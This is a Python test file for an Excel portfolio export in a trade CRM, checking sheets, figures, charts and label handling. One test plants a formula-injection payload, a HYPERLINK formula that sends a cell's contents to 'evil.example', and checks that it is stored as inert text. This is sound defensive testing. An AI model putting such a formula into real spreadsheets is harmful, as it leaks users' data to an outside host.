import io
import zipfile

import openpyxl
import pytest

from trade_crm_tiering.portfolio_xlsx import LABEL_KEYS, workbook

LABELS = {key: key.replace("_", " ").title() for key in LABEL_KEYS}


def report(**overrides):
    data = {
        "company": {"id": 1, "name": "Ningbo Export Co"},
        "currency": {"id": 2, "name": "USD", "digits": 2},
        "scope_label": "All customers",
        "basis_label": "Last 12 months",
        "generated": "2026-11-23 08:00",
        "period": {"key": "last_quarter", "label": "Last quarter (2026-07-01 - 2026-09-30)"},
        "show_score": False,
        "concentration": {
            "customers": 3,
            "total": 1000.0,
            "measures": [
                {"key": "top1", "label": "Top 1", "share": 50.0, "band": "critical", "band_label": "Critical"},
                {"key": "top3", "label": "Top 3", "share": 100.0, "band": "high", "band_label": "High"},
                {"key": "top10", "label": "Top 10", "share": 100.0, "band": "high", "band_label": "High"},
            ],
            "pareto": {"customers": 2, "customer_share": 66.7, "slice_customers": 1, "slice_share": 50.0},
        },
        "grades": [
            {"star": star, "label": f"{star} stars", "customers": count, "amount": amount, "share": share}
            for star, count, amount, share in [
                (0, 0, 0.0, 0.0),
                (1, 1, 200.0, 20.0),
                (2, 1, 300.0, 30.0),
                (3, 1, 500.0, 50.0),
                (4, 0, 0.0, 0.0),
                (5, 0, 0.0, 0.0),
            ]
        ],
        "top_customers": [
            {
                "rank": 1,
                "name": "Hamburg Holz AG",
                "star": 3,
                "tier": "B Key",
                "user": "Ravi",
                "amount": 500.0,
                "share": 50.0,
                "cumulative_share": 50.0,
                "score": 88,
            },
            {
                "rank": 2,
                "name": "Lyon Bois",
                "star": 2,
                "tier": "C General",
                "user": False,
                "amount": 300.0,
                "share": 30.0,
                "cumulative_share": 80.0,
                "score": None,
            },
        ],
        "migration": {
            "stars": [f"{star} stars" for star in range(6)],
            "matrix": [[1 if start == end else 0 for end in range(6)] for start in range(6)],
            "customers": 6,
            "upgrades": 0,
            "downgrades": 0,
            "changed_share": 0.0,
        },
        "workload": {
            "capacity": 80.0,
            "tiers": [{"id": 1, "code": "A", "name": "A Core"}, {"id": 2, "code": "B", "name": "B Key"}],
            "reps": [
                {
                    "name": "Ravi",
                    "tier_counts": [2, 1],
                    "customers": 3,
                    "follow_ups": 10.87,
                    "reviews": 1.0,
                    "load": 11.87,
                    "capacity": 80.0,
                    "utilisation": 14.8,
                    "overdue": 1,
                    "missing_backups": 2,
                    "status_label": "Has room",
                },
                {
                    "name": "Unassigned",
                    "tier_counts": [0, 1],
                    "customers": 1,
                    "follow_ups": 2.0,
                    "reviews": 0.0,
                    "load": 2.0,
                    "capacity": None,
                    "utilisation": None,
                    "overdue": 0,
                    "missing_backups": 0,
                    "status_label": None,
                },
            ],
        },
        "warnings": {"total": 3},
    }
    data.update(overrides)
    return data


def load(content):
    return openpyxl.load_workbook(io.BytesIO(content))


def charts(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return sorted(name for name in archive.namelist() if name.startswith("xl/charts/chart"))


def test_one_sheet_per_section_with_the_figures():
    content = workbook(report(), LABELS)
    book = load(content)
    assert book.sheetnames == [
        "Sheet Summary",
        "Sheet Concentration",
        "Sheet Grades",
        "Sheet Migration",
        "Sheet Workload",
    ]
    summary = {row[0]: row[1:] for row in book["Sheet Summary"].iter_rows(values_only=True) if row[0]}
    assert summary["Company"][0] == "Ningbo Export Co"
    assert summary["Top 1"] == (0.5, "Critical")
    assert summary["Revenue"][0] == 1000.0
    assert summary["Warnings"][0] == 3
    top = book["Sheet Concentration"]
    assert [top.cell(row=4, column=col).value for col in range(1, 9)] == [
        1,
        "Hamburg Holz AG",
        3,
        "B Key",
        "Ravi",
        500.0,
        0.5,
        0.5,
    ]
    assert top.cell(row=5, column=5).value is None  # no salesperson: an empty cell, not "False"
    assert top.cell(row=3, column=9).value is None  # no score column without scores
    migration = book["Sheet Migration"]
    assert migration.cell(row=4, column=2).value == 1  # 0 stars -> 0 stars
    assert migration.cell(row=4, column=8).value == 1  # row total
    workload = book["Sheet Workload"]
    assert [workload.cell(row=3, column=col).value for col in range(1, 4)] == ["Salesperson", "A Core", "B Key"]
    assert workload.cell(row=4, column=11).value == 2  # missing backups
    assert workload.cell(row=5, column=8).value is None  # no capacity for customers without salesperson


def test_charts_for_pareto_grades_and_workload():
    assert charts(workbook(report(), LABELS)) == [
        "xl/charts/chart1.xml",
        "xl/charts/chart2.xml",
        "xl/charts/chart3.xml",
    ]


def test_scores_when_present():
    book = load(workbook(report(show_score=True), LABELS))
    sheet = book["Sheet Concentration"]
    assert sheet.cell(row=3, column=9).value == "Score"
    assert (sheet.cell(row=4, column=9).value, sheet.cell(row=5, column=9).value) == (88, None)


def test_empty_portfolio_has_no_pareto_or_workload_chart():
    empty = report(
        top_customers=[],
        workload={"capacity": 80.0, "tiers": [], "reps": []},
    )
    empty["concentration"].update(
        customers=0,
        total=0.0,
        pareto={"customers": 0, "customer_share": None, "slice_customers": 0, "slice_share": None},
    )
    for measure in empty["concentration"]["measures"]:
        measure.update(share=None, band=None, band_label=None)
    content = workbook(empty, LABELS)
    assert charts(content) == ["xl/charts/chart1.xml"]  # the grade distribution only
    summary = {row[0]: row[1:] for row in load(content)["Sheet Summary"].iter_rows(values_only=True) if row[0]}
    assert summary["Top 1"] == (None, None)


def test_sheet_names_are_made_valid():
    labels = dict(LABELS, sheet_summary="概览: 客户/分层 [2026] 一个非常非常非常非常非常非常长的名字")
    book = load(workbook(report(), labels))
    assert book.sheetnames[0] == "概览  客户 分层  2026  一个非常非常非常非常非常非常长的名字"[:31]


def test_missing_labels_are_refused():
    with pytest.raises(KeyError, match="title"):
        workbook(report(), {key: key for key in LABEL_KEYS if key != "title"})


def test_names_that_look_like_formulas_are_written_as_text():
    data = report()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    data["top_customers"][0]["name"] = formula
    data["top_customers"][0]["user"] = "@SUM(1)"
    content = workbook(data, LABELS)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert not any(b"HYPERLINK" in sheet and b"<f>" in sheet for sheet in sheets)
    top = load(content)["Sheet Concentration"]
    assert top.cell(row=4, column=2).value == formula
    assert top.cell(row=4, column=2).data_type == "s"
    assert top.cell(row=4, column=5).value == "@SUM(1)"
